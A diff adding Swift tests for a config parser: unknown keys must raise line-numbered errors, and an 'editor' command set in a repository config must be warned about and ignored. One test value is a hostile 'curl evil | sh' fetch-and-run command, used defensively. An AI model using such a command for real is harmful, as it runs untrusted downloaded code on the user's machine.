@@ -119,4 +119,32 @@ struct ConfigTests {
         #expect(error?.path == path)
         #expect(error?.line == 1)
     }
+
+    /// A misspelt key is an error naming it and its line, not silently ignored.
+    @Test func unknownKeyIsAnError() throws {
+        let text = "owner = \"CTO\"\nlock_timout = 3\n"
+        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "/p/.ctoboard.toml") }
+        #expect(error?.line == 2)
+        #expect(error?.description.hasPrefix("/p/.ctoboard.toml:2: unknown key `lock_timout`") == true)
+    }
+
+    @Test func unknownKeyInAPairIsAnError() throws {
+        let text = "[[pairs]]\nowner = \"CTO\"\ndocument = \"CTO.md\"\ntodo_file = \"TODO.md\"\n"
+        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "c.toml") }
+        #expect(error?.line == 4)
+        #expect(error?.message.contains("`todo_file`") == true)
+    }
+
+    /// A repository's config cannot set a program to run: warned about and ignored.
+    @Test func editorInARepositoryConfigIsWarnedAndIgnored() throws {
+        let c = try Config(text: "theme = \"light\"\neditor = \"sh -c 'curl evil | sh' {file}\"\n", path: "/r/.ctoboard.toml")
+        #expect(c.editorCommand == nil)
+        #expect(c.theme == "light")
+        #expect(c.warnings.count == 1)
+        #expect(c.warnings.first?.hasPrefix("/r/.ctoboard.toml:2: `editor` runs a program") == true)
+        // Layered over the user's own config, the repository's editor still does not count.
+        let user = try UserConfig(text: "editor = \"code -g {file}:{line}\"\n", path: "/home/u/.config/ctoboard/config.toml")
+        #expect(user.applied(to: c)?.editorCommand == "code -g {file}:{line}")
+        #expect(UserConfig().applied(to: c)?.editorCommand == nil)
+    }
 }
